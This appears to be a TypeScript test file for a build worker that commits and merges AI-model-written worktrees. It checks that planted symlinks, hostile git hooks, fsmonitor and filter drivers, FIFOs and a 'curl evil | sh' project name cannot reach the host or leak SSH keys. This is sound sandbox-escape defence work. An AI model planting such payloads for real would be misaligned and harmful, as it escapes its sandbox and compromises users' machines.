import { execFileSync, spawn } from 'node:child_process';
import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createGitActivities } from '../../../activities/git';
import { parseConfig } from '../../../lib/config';
import { assertUntouched, errorText, longestStall, makeVictim, type Victim } from '../../fixtures/attack-kit';

/**
 * The worker's own steps run outside the sandbox: commit, merge, features, hooks. Each case plants what
 * a model could leave in its worktree or on the build branch, then runs the step through the same
 * activities the worker registers, and checks nothing outside the worktree changed, no canary secret
 * left the worker, and the event loop kept turning.
 */

const activities = createGitActivities({ config: parseConfig({}) });
let v: Victim;
beforeEach(() => {
  v = makeVictim();
});
afterEach(() => v.restore());

function exe(file: string, text: string): void {
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, text);
  chmodSync(file, 0o755);
}

/** Commits `plant` on the build branch br/b1, as an earlier merged task would have. */
async function buildBranchWith(plant: (dir: string) => void): Promise<void> {
  await activities.ensureBuildBranch({ repoPath: v.repo.dir, baseBranch: 'main', buildBranch: 'br/b1' });
  const dir = path.join(path.dirname(v.repo.dir), 'plant');
  // The planting itself runs with hooks off: only the step under test may fall for them.
  const off = ['-c', 'core.hooksPath=/dev/null'];
  v.repo.git(...off, 'worktree', 'add', '-q', dir, 'br/b1');
  plant(dir);
  const g = (...a: string[]) =>
    execFileSync('git', [...off, ...a], { cwd: dir, env: v.repo.env, stdio: 'pipe' });
  g('add', '--all');
  g('commit', '-q', '-m', 'planted by an earlier task');
  v.repo.git(...off, 'worktree', 'remove', '--force', dir);
}

const FEATURES = (project: string) =>
  JSON.stringify({
    version: 2,
    project,
    features: [
      {
        id: 'F001',
        title: 'Login',
        description: '',
        priority: 'high',
        status: 'planned',
        updatedAt: '2026-01-01T00:00:00.000Z',
      },
    ],
  });

const mark = (input = {}) =>
  activities.markFeaturesDelivered({
    repoPath: v.repo.dir,
    buildBranch: 'br/b1',
    buildId: 'b1',
    featureIds: ['F001'],
    ...input,
  });

describe('the features step', () => {
  it('does not write through a STATUS.md symlink into the main checkout’s hooks, nor run a hook outside', async () => {
    exe(path.join(v.repo.dir, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\nexit 0\n');
    await buildBranchWith((dir) => {
      mkdirSync(path.join(dir, '.buildrunner'));
      writeFileSync(
        path.join(dir, '.buildrunner', 'features.json'),
        FEATURES(`Demo\n${v.mark('status-symlink')}`),
      );
      symlinkSync('../../../../.git/hooks/pre-commit', path.join(dir, 'STATUS.md'));
    });
    const before = v.snapshot();
    const { result, stallMs } = await longestStall(() => mark());
    assertUntouched(v, before, errorText(result));
    expect(stallMs).toBeLessThan(2000);
  });

  it('does not overwrite ~/.bashrc through an absolute STATUS.md symlink', async () => {
    await buildBranchWith((dir) => {
      mkdirSync(path.join(dir, '.buildrunner'));
      writeFileSync(path.join(dir, '.buildrunner', 'features.json'), FEATURES('Demo'));
      symlinkSync(path.join(v.home, '.bashrc'), path.join(dir, 'STATUS.md'));
    });
    const before = v.snapshot();
    const { result } = await longestStall(() => mark());
    assertUntouched(v, before, errorText(result));
    // The symlink is replaced by the regenerated file, committed as a regular file.
    expect(result).not.toBeInstanceOf(Error);
    expect(v.repo.git('ls-tree', 'br/b1', 'STATUS.md')).toMatch(/^100644 blob/);
  });

  it('does not read or write features.json through a symlinked .buildrunner folder', async () => {
    mkdirSync(path.join(v.home, 'elsewhere'));
    writeFileSync(path.join(v.home, 'elsewhere', 'features.json'), FEATURES('Elsewhere'));
    await buildBranchWith((dir) =>
      symlinkSync(path.join(v.home, 'elsewhere'), path.join(dir, '.buildrunner')),
    );
    const before = v.snapshot();
    const { result } = await longestStall(() => mark());
    assertUntouched(v, before, errorText(result));
    expect(errorText(result)).toMatch(/\.buildrunner is a symbolic link/);
    expect((result as { type?: string }).type).toBe('CONFIG_INVALID');
  });

  it('commits with the user’s hooks off, so a hook that runs model-written tests never runs outside the sandbox', async () => {
    exe(path.join(v.repo.dir, '.git', 'hooks', 'pre-commit'), `#!/bin/sh\n${v.mark('user-pre-commit')}\n`);
    exe(path.join(v.repo.dir, '.git', 'hooks', 'post-commit'), `#!/bin/sh\n${v.mark('user-post-commit')}\n`);
    await buildBranchWith((dir) => {
      mkdirSync(path.join(dir, '.buildrunner'));
      writeFileSync(path.join(dir, '.buildrunner', 'features.json'), FEATURES('Demo'));
    });
    const before = v.snapshot();
    const { result } = await longestStall(() => mark());
    assertUntouched(v, before, errorText(result));
    expect(v.repo.git('log', '-1', '--format=%s', 'br/b1')).toContain('Mark features delivered: F001');
  });

  it('refuses a features.json whose project name is more than one line of text', async () => {
    await buildBranchWith((dir) => {
      mkdirSync(path.join(dir, '.buildrunner'));
      writeFileSync(
        path.join(dir, '.buildrunner', 'features.json'),
        FEATURES('Demo\n#!/bin/sh\ncurl evil | sh'),
      );
    });
    const { result } = await longestStall(() => mark());
    expect(errorText(result)).toMatch(/project/);
    expect(v.repo.git('log', '-1', '--format=%s', 'br/b1')).toBe('planted by an earlier task');
  });
});

describe('task commits and merges', () => {
  async function task(): Promise<string> {
    const prepared = await activities.prepareWorktree({
      repoPath: v.repo.dir,
      buildId: 'b1',
      taskId: 't1',
      attempt: 1,
      buildBranch: 'br/b1',
    });
    return prepared.worktreePath;
  }
  const commit = (worktreePath: string, message = 'Task t1') =>
    activities.commitTask({ worktreePath, buildId: 'b1', taskId: 't1', model: 'claude-test', message });
  const merge = () =>
    activities.mergeTask({
      repoPath: v.repo.dir,
      buildBranch: 'br/b1',
      branch: 'br/tasks/b1/t1-a1',
      buildId: 'b1',
      taskId: 't1',
    });

  it('never runs hooks from a relative core.hooksPath (husky) outside the sandbox in worktree add, add, reset or merge', async () => {
    v.repo.git('config', 'core.hooksPath', '.husky');
    const hooks = [
      'post-checkout',
      'reference-transaction',
      'post-index-change',
      'post-merge',
      'post-rewrite',
    ];
    const attack = (tag: string) =>
      `#!/bin/sh\n${v.mark(tag)}\necho '#!/bin/sh' > "${path.join(v.repo.dir, '.git', 'hooks', 'post-merge')}"\n` +
      `git config --file "${path.join(v.repo.dir, '.git', 'config')}" core.fsmonitor "${v.leak}.sh"\n`;
    await buildBranchWith((dir) => {
      for (const h of hooks) exe(path.join(dir, '.husky', h), attack(`husky ${h}`));
    });
    const before = v.snapshot();
    const { result, stallMs } = await longestStall(async () => {
      const wt = await task();
      writeFileSync(path.join(wt, 'src', 'new.txt'), 'new\n');
      exe(path.join(wt, '.husky', 'pre-commit'), '#!/bin/sh\nexit 0\n');
      await commit(wt);
      return merge();
    });
    assertUntouched(v, before, errorText(result));
    expect(result).not.toBeInstanceOf(Error);
    expect(stallMs).toBeLessThan(2000);
  });

  it('never runs the fsmonitor or a filter driver of a nested repository the model created, on a retried commit either', async () => {
    const wt = await (async () => {
      await activities.ensureBuildBranch({ repoPath: v.repo.dir, baseBranch: 'main', buildBranch: 'br/b1' });
      return task();
    })();
    const vendor = path.join(wt, 'vendor');
    mkdirSync(vendor);
    const g = (...a: string[]) => execFileSync('git', a, { cwd: vendor, env: v.repo.env, stdio: 'pipe' });
    g('init', '-q');
    // Same-size edits: git cannot tell them by size, so a look inside would run the clean filter.
    writeFileSync(path.join(vendor, 'lib.txt'), 'x\n');
    writeFileSync(path.join(vendor, '.gitattributes'), '* filter=evil diff=evil\n');
    g('add', '.');
    g('-c', 'user.name=m', '-c', 'user.email=m@m', 'commit', '-q', '-m', 'vendor');
    exe(path.join(vendor, 'monitor.sh'), `#!/bin/sh\n${v.mark('nested fsmonitor')}\n`);
    g('config', 'core.fsmonitor', path.join(vendor, 'monitor.sh'));
    g('config', 'filter.evil.clean', `sh -c '${v.mark('nested filter')}; cat'`);
    g('config', 'diff.evil.textconv', `sh -c '${v.mark('nested textconv')}; cat'`);
    g('config', 'core.hooksPath', path.join(vendor, 'hooks'));
    exe(path.join(vendor, 'hooks', 'post-index-change'), `#!/bin/sh\n${v.mark('nested hook')}\n`);
    writeFileSync(path.join(vendor, 'lib.txt'), 'y\n');
    const before = v.snapshot();
    const { result } = await longestStall(async () => {
      await commit(wt);
      writeFileSync(path.join(vendor, 'lib.txt'), 'z\n');
      writeFileSync(path.join(wt, 'src', 'other.txt'), 'more\n');
      await commit(wt, 'Task t1 again');
      return merge();
    });
    assertUntouched(v, before, errorText(result));
  });

  it('refuses named pipes where git opens its own files, instead of hanging the commit for good', async () => {
    await activities.ensureBuildBranch({ repoPath: v.repo.dir, baseBranch: 'main', buildBranch: 'br/b1' });
    const wt = await task();
    writeFileSync(path.join(wt, 'src', 'new.txt'), 'new\n');
    // As a sandboxed `mkfifo` leaves them: git would open them and wait for a writer forever.
    mkdirSync(path.join(wt, 'src', 'deep'));
    execFileSync('mkfifo', [path.join(wt, 'src', 'deep', '.gitignore'), path.join(wt, '.gitattributes')]);
    const before = v.snapshot();
    const { result, stallMs } = await longestStall(() => commit(wt));
    expect(stallMs).toBeLessThan(2000);
    expect((result as { type?: string }).type).toBe('HOOK_REJECTED');
    expect(errorText(result)).toMatch(
      /named pipes .*(src\/deep\/\.gitignore.*\.gitattributes|\.gitattributes.*src\/deep\/\.gitignore)/,
    );
    expect(v.repo.git('log', '-1', '--format=%s', 'br/tasks/b1/t1-a1')).not.toBe('Task t1');
    assertUntouched(v, before, errorText(result));
  }, 30_000);

  it('does not freeze the worker when a commit-msg hook turns the message file into a FIFO', async () => {
    exe(path.join(v.repo.dir, '.git', 'hooks', 'commit-msg'), '#!/bin/sh\nrm -f "$1"\nmkfifo "$1"\n');
    await activities.ensureBuildBranch({ repoPath: v.repo.dir, baseBranch: 'main', buildBranch: 'br/b1' });
    const wt = await task();
    writeFileSync(path.join(wt, 'src', 'new.txt'), 'new\n');
    // If the worker does block on the FIFO, this writer (another process) frees it after 4 s, so the
    // test fails on the stall instead of hanging forever.
    const pattern = path.join(tmpdir(), 'br-commit-msg-*', 'COMMIT_EDITMSG');
    const unblock = spawn(
      'sh',
      [
        '-c',
        `for i in $(seq 1 40); do for f in ${pattern}; do [ -p "$f" ] && sleep 4 && echo freed > "$f" && exit 0; done; sleep 0.2; done`,
      ],
      {
        stdio: 'ignore',
      },
    );
    const before = v.snapshot();
    const { result, stallMs } = await longestStall(() => commit(wt));
    unblock.kill();
    expect(stallMs).toBeLessThan(2000);
    expect(errorText(result)).toMatch(/commit-msg/);
    assertUntouched(v, before, errorText(result));
  });

  it('does not read a file outside the worktree into the commit message through a symlinked message file', async () => {
    const key = path.join(v.home, '.ssh', 'id_ed25519');
    exe(path.join(v.repo.dir, '.git', 'hooks', 'commit-msg'), `#!/bin/sh\nrm -f "$1"\nln -s "${key}" "$1"\n`);
    await activities.ensureBuildBranch({ repoPath: v.repo.dir, baseBranch: 'main', buildBranch: 'br/b1' });
    const wt = await task();
    writeFileSync(path.join(wt, 'src', 'new.txt'), 'new\n');
    const { result } = await longestStall(() => commit(wt));
    expect(errorText(result)).not.toContain('PRIVATE KEY');
    expect(v.repo.git('log', '--all', '--format=%B')).not.toContain('PRIVATE KEY');
  });
});
